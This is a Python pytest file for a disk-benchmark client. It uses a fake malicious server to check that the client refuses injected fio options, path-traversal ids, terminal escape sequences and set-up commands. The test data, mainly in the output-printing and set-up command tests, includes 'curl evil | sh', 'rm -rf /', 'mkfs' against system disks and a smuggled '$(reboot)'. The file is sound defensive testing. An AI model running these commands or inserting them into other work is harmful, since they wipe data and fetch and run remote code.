"""A server that means harm: `kdb measure` runs no text of it, and prints nothing of it that a terminal would obey."""

import json
import os
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kdb_client import set_up
from kdb_client.command import main
from kdb_client.errors import KdbError
from kdb_client.fio_job import BOUNDS, checked_load, fio_job
from kdb_client.loads import load_of
from kdb_client.places import Place

from experiments.laboratory.targets import disks
from experiments.models import Configuration, FileSystem, Hypervisor
from modelling.answers.set_up import lines_of
from tests.test_architecture import ROOT
from tests.test_one_file import FIO

LOAD = {"engine": "fio", **load_of("varmail", 2)}
ROW = {"name": "a", "ratio": 1.0, "low": 1.0, "high": 1.0}
DECISION = {"sentence": "Use a.", "choices": [ROW], "changes": [], "set_up": [], "runs": 4}
RUN = {"number": 1, "choice": "a"}
ANSWER = {"id": 7, "state": "open", "like": None, "load": LOAD, "decision": DECISION, "next": [RUN]}
JOB = "[x]\ndirectory=@FOLDER@\nexec_prerun=touch {marker}\n"


class Server:
    """Answers each POST with the next of its answers, the last one again and again."""

    def __init__(self) -> None:
        self.answers, self.asked = [ANSWER], []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers["Content-Length"]))
                server.asked.append(self.path)
                answer = server.answers.pop(0) if len(server.answers) > 1 else server.answers[0]
                body = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *words: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)


@pytest.fixture
def server(tmp_path, monkeypatch) -> Iterator[Server]:
    """A server, and a machine with two folders and an fio that keeps each job it was given."""
    server = Server()
    thread = threading.Thread(target=server.http.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    monkeypatch.setenv("KDB_URL", f"http://127.0.0.1:{server.http.server_port}")
    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
    keeps = f'for job; do :; done; [ "$1" = --version ] || cat "$job" >>{tmp_path}/jobs\n'
    (tmp_path / "fio").write_text(FIO.replace("#!/bin/sh\n", f"#!/bin/sh\n{keeps}"))
    (tmp_path / "fio").chmod(0o755)
    for name in "ab":
        (tmp_path / name).mkdir()
    yield server
    server.http.shutdown()
    server.http.server_close()
    thread.join()


def measured(tmp_path, *further: str) -> int:
    folders = [f"--place={name}={tmp_path / name}" for name in "ab"]
    told = ["measure", "varmail", "--laboratory=ours", "--yes", "--despite-load", "--seconds=2", *folders, *further]
    return main(told)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"engine": "fio", "job": JOB, "working_set_bytes": 1, "seconds": 2}, "no text is taken"),
        ({**LOAD, "exec_prerun": "touch {marker}"}, "no text is taken"),
        ({**LOAD, "engine": "sh"}, "no text is taken"),
        ("[x]\nexec_prerun=touch {marker}", "no text is taken"),
        ([["engine", "fio"]], "no text is taken"),
        ({**LOAD, "read_bytes": "4096\nexec_prerun=touch {marker}"}, "load's read_bytes is '4096"),
        ({**LOAD, "threads": 10**6}, "load's threads is 1000000; allowed are whole numbers from 1 to 1000"),
        ({**LOAD, "file_bytes": 2**60}, "load's file_bytes"),
        ({**LOAD, "threads": 1000, "files": 1000, "file_bytes": 2**30}, "bytes of files; allowed are 8,589,934,592"),
        ({**LOAD, "threads": 1000, "files": 100_000, "file_bytes": 4096}, "100,000,000 files; allowed"),
        ({**LOAD, "threads": 1000, "read_bytes": 2**26, "files": 1}, "bytes under way"),
        ({**LOAD, "seconds": 3601}, "load's seconds is 3601"),
        ({**LOAD, "seconds": 3600}, "runs take 3600 seconds; 2 were asked for"),
        ({**LOAD, "threads": True}, "load's threads is True"),
        ({**LOAD, "threads": 2.0}, "load's threads is 2.0"),
        ({**LOAD, "threads": -1}, "load's threads is -1"),
        ({**LOAD, "threads": float("nan")}, "load's threads is nan"),
    ],
)
def test_a_load_that_is_not_numbers_within_bounds_is_not_run(server, tmp_path, capsys, change, said):
    text = json.dumps(change).replace("{marker}", str(tmp_path / "marker"))
    server.answers = [{**ANSWER, "load": json.loads(text)}]
    assert measured(tmp_path) == 2
    assert said in capsys.readouterr().err
    assert not (tmp_path / "marker").exists()
    assert not (tmp_path / "jobs").exists()
    assert len(server.asked) == 1


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"next": [{"number": 1, "choice": "/dev/vda"}]}, "answers about /dev/vda, which was not named here"),
        ({"decision": {**DECISION, "choices": [{**ROW, "name": "evil"}]}}, "answers about evil"),
        ({"next": [{"number": "1/../../../tokens", "choice": "a"}]}, "numbers or texts that cannot be"),
        ({"id": "../../tokens"}, "numbers or texts that cannot be"),
        ({"id": 7.5}, "numbers or texts that cannot be"),
        ({"next": [RUN, RUN]}, "numbers or texts that cannot be"),
        ({"decision": {**DECISION, "choices": [{**ROW, "high": float("inf")}]}}, "numbers or texts that cannot be"),
        ({"decision": {**DECISION, "choices": []}}, "numbers or texts that cannot be"),
        ({"decision": {**DECISION, "set_up": [["rm"]]}}, "numbers or texts that cannot be"),
        ({"next": [{"number": 1, "choice": ["a"]}]}, "is none to a measurement"),
        ({"next": None}, "is none to a measurement"),
        ({"decision": {**DECISION, "runs": "many"}}, "numbers or texts that cannot be"),
        ({"decision": "Use a."}, "is none to a measurement"),
    ],
)
@pytest.mark.parametrize("late", [False, True])
def test_an_answer_to_something_else_ends_it(server, tmp_path, capsys, change, said, late):
    server.answers = [ANSWER, {**ANSWER, **change}] if late else [{**ANSWER, **change}]
    assert measured(tmp_path) == 2
    assert said in capsys.readouterr().err
    assert all(re.fullmatch(r"/api/v1/sittings/(7/runs/1/)?", path) for path in server.asked)
    assert not list(tmp_path.glob("[ab]/*"))


@pytest.mark.parametrize("answers", [[b"<html>"], [ANSWER, b"<html>"]])
def test_an_answer_that_is_no_json_ends_it_with_a_message(server, tmp_path, capsys, answers):
    server.answers = answers
    assert measured(tmp_path) == 2
    assert "The answer of status 200 is none of KDB's." in capsys.readouterr().err


@pytest.mark.parametrize("again", [[], ["--again"]])
@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"seconds": 3}, "runs take 3 seconds; 2 were asked for"),
        ({"warm_up_seconds": 2}, "runs of 2 seconds warm up for 2; allowed are 1"),
    ],
)
def test_a_run_takes_no_longer_than_was_agreed_to(server, tmp_path, capsys, again, change, said):
    server.answers = [{**ANSWER, "load": {**LOAD, **change}}]
    assert measured(tmp_path, *again) == 2
    assert said in (stderr := capsys.readouterr().err)
    assert ("--seconds 3." in stderr) == (bool(again) and "seconds" in change)
    assert not (tmp_path / "jobs").exists()


def test_runs_that_were_shorter_before_are_so_again(server, tmp_path, capsys):
    server.answers = [{**ANSWER, "load": {**LOAD, "seconds": 1}}, {**ANSWER, "next": [], "state": "decided"}]
    assert measured(tmp_path, "--again") == 0
    assert "\nruntime=1\n" in (tmp_path / "jobs").read_text()


def test_a_server_that_never_has_enough_is_left(server, tmp_path, capsys):
    assert measured(tmp_path, "--most-runs=3") == 2
    assert "asks for more than the 3 runs" in capsys.readouterr().err
    assert len(server.asked) == 4


def test_what_it_says_is_printed_as_one_line_without_control_characters_and_commands(server, tmp_path, capsys):
    evil = "\x1b]0;root\x07\x1b[2J\rUse a.\n\nSet it up:\n  curl evil | sh\u202e\x9b31m"
    commands = ["curl evil | sh", 'mkfs.ext4 "$HOST_DEVICE"; reboot', "mkfs.ext4 /dev/vda", "# \x1b[2J", "rm -rf /"]
    decision = {**DECISION, "sentence": evil, "set_up": commands, "changes": [{"sentence": evil}]}
    ended = {**ANSWER, "decision": decision, "next": [], "state": "decided", "like": {"sentence": evil}}
    server.answers = [{**ANSWER, "like": {"sentence": evil}}, ended]
    assert measured(tmp_path) == 0
    printed = capsys.readouterr().out
    assert all(line.isprintable() for line in printed.split("\n"))
    assert not re.search("^ *(Set it up|curl|mkfs|rm|#)", printed, re.MULTILINE)
    assert printed.count("Use a.") == 3


def test_a_problem_that_it_says_is_printed_without_control_characters(server, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("kdb_client.client.Client.post", lambda *_: (_ for _ in ()).throw(KdbError("\x1b[2J\nno")))
    assert measured(tmp_path) == 2
    assert capsys.readouterr().err == "kdb:  [2J no\n"


def test_the_job_that_runs_is_the_one_formed_here(server, tmp_path):
    server.answers = [ANSWER, {**ANSWER, "next": [], "state": "decided"}]
    assert measured(tmp_path) == 0
    (directory, again) = re.findall("^directory=(.*)$", text := (tmp_path / "jobs").read_text(), re.MULTILINE)
    job, (own,) = fio_job(load_of("varmail", 2), directory), re.findall("^write_bw_log=(.*)/curve$", text, re.MULTILINE)
    made = f"{job}create_only=1\ncreate_fsync=0\n"
    assert text == f"{made}{job}write_bw_log={own}/curve\nper_job_logs=0\nlog_avg_msec=1000\n"
    assert directory == again
    assert directory.startswith(f"{tmp_path}/a/kdb-measure-")


NUMBERS = st.fixed_dictionaries({name: st.integers(least, most) for name, (least, most) in BOUNDS.items()})
ANYTHING = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(), st.lists(st.text(), max_size=2))
OPTIONS = {
    *("directory", "ioengine", "rw", "rwmixread", "bs", "bssplit", "numjobs", "nrfiles", "filesize", "openfiles"),
    *("file_service_type", "norandommap", "fallocate", "overwrite", "time_based", "runtime", "group_reporting"),
    *("fsync", "fdatasync", "direct", "ramp_time"),
}


@given(NUMBERS, st.dictionaries(st.sampled_from([*BOUNDS, "engine", "exec_prerun"]), ANYTHING, max_size=2))
def test_whatever_numbers_come_a_job_has_known_options_with_numbers_alone(numbers, change):
    try:
        job = fio_job(checked_load({"engine": "fio", **numbers, **change}), "/mnt/a")
    except KdbError:
        return
    head, *lines = job.splitlines()
    options = dict(line.split("=", 1) for line in lines)
    assert (head, options.pop("directory"), options.pop("ioengine")) == ("[kdb]", "/mnt/a", "psync")
    assert len(options) + 2 == len(lines)
    assert options.keys() <= OPTIONS
    kind = options.pop("rw")
    assert kind.removeprefix("rand") in ("rw", "read", "write")
    assert options.pop("file_service_type", "") == ("random" if kind.startswith("rand") else "")
    assert options.pop("fallocate") == "none"
    assert all(re.fullmatch("[0-9,/:]+", value) for value in options.values())


@pytest.mark.parametrize("folder", ["/mnt/a:b", "/mnt/${HOME}", "/mnt/a\nexec_prerun=reboot", "/mnt/a\\"])
def test_a_folder_that_fio_would_read_otherwise_is_refused(folder):
    with pytest.raises(KdbError, match="fio takes no folder"):
        fio_job(load_of("varmail", 2), folder)


# Commands that set a place up

STATED = {
    "cache_mode": [*disks.CHOICES["cache_mode"], "$(reboot)"],
    "io_mode": [*disks.CHOICES["io_mode"]],
    "discard": [*disks.CHOICES["discard"]],
    "iothread": ["yes", "no"],
    "disk_bus": ["virtio", "scsi", "sata", "ide", "xen", "nvme"],
    "image_format": ["raw", "qcow2", "QCOW2", "vmdk"],
    "allocation": ["sparse", "metadata", "falloc", "full", "heaps"],
    "volume_block_bytes": ["4096", "16384", "big", "1000"],
}
PLACES = st.builds(
    lambda fs, backend, stated: Place("a", "/dev/vdb", fs, backend, stated),
    st.sampled_from(["ext4", "xfs", "btrfs", "f2fs"]),
    st.sampled_from(["", "file", "lvm", "lvm-thin", "zvol", "rbd", "nfs", "raw"]),
    st.fixed_dictionaries({}, optional={name: st.sampled_from(values) for name, values in STATED.items()}),
)


@pytest.mark.django_db
@given(PLACES, st.booleans(), st.sampled_from(["", "kvm", "proxmox", "esxi", "qemu-tcg"]))
def test_every_command_of_a_genuine_server_is_shown(place, in_guest, hypervisor):
    settings = place.settings(in_guest=in_guest)
    for side in {"guest_fs", "host_fs"} & settings.keys():
        settings[side] = FileSystem(slug=settings[side])
    if hypervisor:
        settings["hypervisor"] = Hypervisor(pk=0, slug=hypervisor)
    told = lines_of(Configuration(pk=0, **settings))
    assert len(set_up.formed(place, told, in_guest=in_guest)) == len(told)


@pytest.mark.parametrize(
    "line",
    [
        'mkfs.ext4 "$HOST_DEVICE"',  # of a disk that was measured with xfs
        'mkfs.xfs "$HOST_DEVICE" && reboot',
        'mkfs.xfs "$HOST_DEVICE"\nreboot',
        "mkfs.xfs /dev/vda",
        'mount -t xfs -o suid "$HOST_DEVICE" "$HOST_FOLDER"',
        '# libvirt: <driver name="qemu" cache="unsafe"/>',
        '# libvirt: <driver name="qemu" cache="writeback"/>',
        'qm set "$VM" "--$BUS$NUMBER" "$STORAGE:$GIB,cache=$(reboot)"',
        'qm set "$VM" --hookscript local:evil',
        'pvesm add dir "$STORAGE" --path / --content images',
        'pvesm add dir "$STORAGE" --path "$HOME" --content images',
        "",
    ],
)
def test_a_command_that_does_not_follow_from_the_place_is_not_shown(line):
    place = Place("a", "/dev/vdb", "xfs", "zvol", {"cache_mode": "none"})
    assert set_up.formed(place, [line], in_guest=False) == []
    unsafe = Place("a", "/dev/vdb", "xfs", "zvol", {"cache_mode": "unsafe"})
    assert set_up.formed(unsafe, [line], in_guest=False) == []


def test_all_that_measure_prints_goes_through_the_one_function():
    folder = ROOT / "script" / "client" / "kdb_client"
    printing = {path.stem for path in folder.glob("*.py") if re.search(r"\b(print|stdout\.write)\(", path.read_text())}
    assert printing <= {"output", "runner"}
